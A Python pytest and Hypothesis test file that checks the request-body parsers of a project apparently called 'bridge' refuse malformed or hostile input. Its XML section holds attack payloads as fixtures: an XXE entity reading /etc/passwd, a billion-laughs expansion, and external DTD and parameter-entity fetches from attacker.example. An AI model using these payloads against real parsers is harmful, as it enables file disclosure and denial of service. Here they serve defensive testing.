"""The shared body parsers: every malformed or hostile body is an InvalidBody, never a crash."""

from __future__ import annotations

import contextlib
import json
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bridge.errors import InvalidBody, UnsupportedMediaType
from bridge.providers import bodies
from bridge.providers.bodies import (
    decode_json_fields,
    parse_body,
    parse_json,
    parse_multipart,
    parse_urlencoded,
    parse_xml,
)

BOUNDARY = "b0undary-42"
MULTIPART = f"multipart/form-data; boundary={BOUNDARY}"


def nested_json(depth: int) -> bytes:
    return b"[" * depth + b"]" * depth


def multipart(*parts: tuple[str, str] | bytes, close: bool = True) -> bytes:
    out = b""
    for part in parts:
        if isinstance(part, bytes):
            out += f"--{BOUNDARY}\r\n".encode() + part + b"\r\n"
            continue
        name, value = part
        out += f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode()
    if close:
        out += f"--{BOUNDARY}--\r\n".encode()
    return out


# --- JSON -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("depth", [1, 50, 64])
def test_json_nested_up_to_the_limit_parses(depth: int) -> None:
    value: Any = parse_json(nested_json(depth))
    for _ in range(depth - 1):
        value = value[0]
    assert value == []


@pytest.mark.parametrize("depth", [65, 10_000])
def test_json_nested_deeper_than_the_limit_is_refused(depth: int) -> None:
    with pytest.raises(InvalidBody):
        parse_json(nested_json(depth))


@pytest.mark.parametrize("body", [b"", b"{", b"{'a': 1}", b"\xff\xfe", b"[1,]", b"NaN", b'{"a":1}x'])
def test_bad_json_is_invalid_body(body: bytes) -> None:
    with pytest.raises(InvalidBody):
        parse_json(body)


def test_json_with_a_lone_surrogate_escape_parses_with_a_replacement_character() -> None:
    # What JavaScript's JSON.stringify writes for a string cut inside an emoji: valid JSON, which
    # orjson alone refuses. A pair stays the character it encodes.
    body = rb'{"name": "Ann \ud83d", "ok": "\ud83d\ude00", "\uDE00k": [1, -2, 3.5, null, true]}'
    assert parse_json(body) == {"name": "Ann \ufffd", "ok": "\U0001f600", "\ufffdk": [1, -2, 3.5, None, True]}


@pytest.mark.parametrize(
    "body",
    [
        rb'{"a": NaN, "b": "\ud800"}',
        rb'{"a": 18446744073709551616, "b": "\ud800"}',
        rb'{"a": "\ud800"',
        rb'{"a": "\ud800"} x',
        b"[" * 70 + rb'"\ud800"' + b"]" * 70,
    ],
)
def test_json_with_a_lone_surrogate_is_still_refused_for_anything_else(body: bytes) -> None:
    with pytest.raises(InvalidBody):
        parse_json(body)


# --- urlencoded -----------------------------------------------------------------------------------


def test_urlencoded_fields_repeated_names_give_lists() -> None:
    fields = parse_urlencoded(b"a=1&b=caf%C3%A9+au+lait&a=2&c=&a=3")
    assert fields == {"a": ["1", "2", "3"], "b": "café au lait", "c": ""}


def test_urlencoded_declared_charset_is_used() -> None:
    fields = parse_urlencoded(b"name=Jos%E9", "application/x-www-form-urlencoded; charset=iso-8859-1")
    assert fields == {"name": "José"}


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (b"name=%ff", "application/x-www-form-urlencoded"),
        (b"\xff=1", "application/x-www-form-urlencoded"),
        (b"a=1", "application/x-www-form-urlencoded; charset=no-such-charset"),
        # Codecs of Python's that are no text encodings (bytes.decode raises LookupError).
        (b"YT0x", "application/x-www-form-urlencoded; charset=base64"),
        (b"613d31", "application/x-www-form-urlencoded; charset=hex"),
        (b"a=1", "application/x-www-form-urlencoded; charset=rot13"),
    ],
)
def test_urlencoded_undecodable_is_invalid_body(body: bytes, content_type: str) -> None:
    with pytest.raises(InvalidBody):
        parse_urlencoded(body, content_type)


def test_urlencoded_field_count_is_bounded() -> None:
    at_limit = "&".join(f"f{i}=x" for i in range(bodies.MAX_FORM_FIELDS)).encode()
    assert len(parse_urlencoded(at_limit)) == bodies.MAX_FORM_FIELDS
    with pytest.raises(InvalidBody):
        parse_urlencoded(at_limit + b"&one=more")


def test_urlencoded_field_size_is_bounded() -> None:
    assert parse_urlencoded(b"a=" + b"x" * bodies.MAX_FIELD_BYTES) == {"a": "x" * bodies.MAX_FIELD_BYTES}
    with pytest.raises(InvalidBody):
        parse_urlencoded(b"a=" + b"x" * (bodies.MAX_FIELD_BYTES + 1))
    with pytest.raises(InvalidBody):
        parse_urlencoded(b"n" * (bodies.MAX_FIELD_NAME_BYTES + 1) + b"=1")


# --- multipart ------------------------------------------------------------------------------------


def test_multipart_fields_repeats_and_skipped_files() -> None:
    body = multipart(
        ("name", "Ada"),
        ("tag", "a"),
        ("tag", "b"),
        b'Content-Disposition: form-data; name="cv"; filename="cv.pdf"\r\n'
        b"Content-Type: application/pdf\r\n\r\n%PDF-1.4 binary \xff\x00",
        ("note", "line 1\r\nline 2"),
    )
    assert parse_multipart(body, MULTIPART) == {"name": "Ada", "tag": ["a", "b"], "note": "line 1\r\nline 2"}


def test_multipart_part_count_is_bounded() -> None:
    parts = [(f"f{i}", "x") for i in range(bodies.MAX_FORM_FIELDS)]
    assert len(parse_multipart(multipart(*parts), MULTIPART)) == bodies.MAX_FORM_FIELDS
    with pytest.raises(InvalidBody):
        parse_multipart(multipart(*parts, ("one", "more")), MULTIPART)


def test_multipart_field_size_is_bounded() -> None:
    ok = "x" * bodies.MAX_FIELD_BYTES
    assert parse_multipart(multipart(("a", ok)), MULTIPART) == {"a": ok}
    with pytest.raises(InvalidBody):
        parse_multipart(multipart(("a", ok + "x")), MULTIPART)


def test_multipart_part_headers_are_bounded() -> None:
    long_header = b"X-Pad: " + b"p" * bodies.MAX_PART_HEADER_BYTES + b"\r\n"
    part = long_header + b'Content-Disposition: form-data; name="a"\r\n\r\n1'
    with pytest.raises(InvalidBody):
        parse_multipart(multipart(part), MULTIPART)
    many = b"".join(f"X-H{i}: 1\r\n".encode() for i in range(bodies.MAX_PART_HEADERS + 1))
    with pytest.raises(InvalidBody):
        parse_multipart(multipart(many + b'Content-Disposition: form-data; name="a"\r\n\r\n1'), MULTIPART)


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (multipart(("a", "1")), "multipart/form-data"),  # no boundary
        (multipart(("a", "1")), "multipart/form-data; boundary=" + "b" * 71),
        (multipart(("a", "1"), close=False), MULTIPART),  # truncated
        (b"", MULTIPART),
        (b"not multipart at all", MULTIPART),
        (multipart(b"Content-Type: text/plain\r\n\r\nno disposition"), MULTIPART),
        (multipart(b"Content-Disposition: attachment\r\n\r\nx"), MULTIPART),
        (multipart(b'Content-Disposition: form-data; name="a"\r\n\r\n\xff\xfe'), MULTIPART),
        (multipart(b"Content-Disposition form-data\r\n\r\nx"), MULTIPART),
    ],
)
def test_bad_multipart_is_invalid_body(body: bytes, content_type: str) -> None:
    with pytest.raises(InvalidBody):
        parse_multipart(body, content_type)


# --- dispatch and JSON-in-forms -----------------------------------------------------------------


def test_parse_body_dispatches_on_content_type() -> None:
    assert parse_body(b'{"a": 1}', "application/json; charset=utf-8") == {"a": 1}
    assert parse_body(b'{"a": 1}', "application/vnd.api+json") == {"a": 1}
    assert parse_body(b"a=1", "application/x-www-form-urlencoded") == {"a": "1"}
    assert parse_body(multipart(("a", "1")), MULTIPART) == {"a": "1"}


@pytest.mark.parametrize("content_type", ["text/plain", "text/xml", "application/octet-stream"])
def test_parse_body_refuses_other_media_types(content_type: str) -> None:
    with pytest.raises(UnsupportedMediaType):
        parse_body(b"{}", content_type)


def test_json_fields_are_decoded_and_bounded() -> None:
    fields = {"rawRequest": json.dumps({"q3_email": "a@example.com"}), "formID": "1"}
    assert decode_json_fields(fields, ["rawRequest", "absent"]) == {
        "rawRequest": {"q3_email": "a@example.com"},
        "formID": "1",
    }
    with pytest.raises(InvalidBody):
        decode_json_fields({"rawRequest": "{not json"}, ["rawRequest"])
    with pytest.raises(InvalidBody):
        decode_json_fields({"rawRequest": nested_json(10_000).decode()}, ["rawRequest"])
    with pytest.raises(InvalidBody):
        decode_json_fields({"rawRequest": ["{}", "{}"]}, ["rawRequest"])


# --- XML ------------------------------------------------------------------------------------------

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<notifications><OrganizationId>&xxe;</OrganizationId></notifications>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd">
<foo>bar</foo>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<foo/>"""


@pytest.mark.parametrize(
    "body",
    [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["xxe", "billion-laughs", "external-dtd", "parameter-entity"],
)
def test_xml_entities_and_dtds_are_refused(body: bytes) -> None:
    with pytest.raises(InvalidBody):
        parse_xml(body)


@pytest.mark.parametrize(
    "body",
    [b"", b"<a>", b"not xml", b"<a></b>", b'<?xml version="1.0" encoding="nope"?><a/>', b"\xff\xfe<a/>"],
)
def test_malformed_xml_is_invalid_body(body: bytes) -> None:
    with pytest.raises(InvalidBody):
        parse_xml(body)


def test_xml_depth_is_bounded() -> None:
    ok = b"<a>" * bodies.MAX_XML_DEPTH + b"</a>" * bodies.MAX_XML_DEPTH
    assert parse_xml(ok).tag == "a"
    too_deep = b"<a>" * 10_000 + b"</a>" * 10_000
    with pytest.raises(InvalidBody):
        parse_xml(too_deep)


# --- random input: only success or InvalidBody --------------------------------------------------

FUZZ = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@FUZZ
@given(st.binary(max_size=2048))
def test_random_bytes_never_crash_the_parsers(body: bytes) -> None:
    for parse in (
        parse_json,
        parse_urlencoded,
        lambda b: parse_multipart(b, MULTIPART),
        parse_xml,
    ):
        with contextlib.suppress(InvalidBody):
            parse(body)


@FUZZ
@given(st.lists(st.tuples(st.text(max_size=20), st.text(max_size=50)), max_size=20), st.data())
def test_mutated_multipart_never_crashes(fields: list[tuple[str, str]], data: st.DataObject) -> None:
    body = bytearray(multipart(*[(name.replace('"', ""), value) for name, value in fields]))
    for _ in range(data.draw(st.integers(0, 4))):
        if body:
            position = data.draw(st.integers(0, len(body) - 1))
            body[position] = data.draw(st.integers(0, 255))
    with contextlib.suppress(InvalidBody):
        parse_multipart(bytes(body), MULTIPART)
